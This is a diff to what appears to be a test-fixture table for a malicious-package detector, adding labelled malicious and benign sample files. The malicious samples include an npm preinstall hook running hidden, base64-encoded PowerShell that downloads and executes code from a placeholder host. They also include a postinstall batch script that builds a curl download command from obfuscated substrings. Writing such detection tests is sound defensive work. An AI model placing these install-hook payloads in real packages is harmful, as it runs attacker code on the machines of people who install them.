@@ -119,6 +119,13 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
         ],
         "benign": [
             {
+                # installers start msiexec on what they downloaded earlier: a launch, not a pipe into a shell
+                "bin/reinstall_win.ps1": (
+                    "$arguments = '/i', $msi, '/quiet'\nStart-Process msiexec.exe -ArgumentList $arguments -Wait\n"
+                ),
+                "package.json": '{"name": "x", "version": "1.0.0"}',
+            },
+            {
                 "x/fetch.py": (
                     "import requests\n\ndef get(u):\n    r = requests.get(u, timeout=5)\n    return r.json()\n"
                 )
@@ -341,9 +348,25 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                     "import marshal, base64\nCODE = marshal.loads(base64.b64decode('" + "QUFB" * 30 + "'))\n"
                 )
             },
+            {
+                "package.json": (
+                    '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": '
+                    '"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA="}}'
+                )
+            },
+            {
+                # batch spelled from substrings of one variable, run from an install hook
+                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "setup.bat"}}',
+                "setup.bat": "@echo off\nset k=pcowlerhsu\n%k:~1,1%%k:~9,1%%k:~7,1%%k:~5,1% -o a.exe\n",
+            },
         ],
         "benign": [
             {"x/plain.py": "import os\n\ndef name():\n    return getattr(os, 'name')\n"},
+            {
+                # future/six: exec reached by name, in plain sight
+                "x/compat.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n\ndef run(code, g):\n    exec_(code, g)\n"
+            },
+            {"tools/install.bat": "@echo off\nset PY=%PYTHON:~0,-1%\npowershell -NoProfile -File build.ps1\n"},
             {
                 # base64 test vectors and images are data, not code
                 "x/vectors.py": (
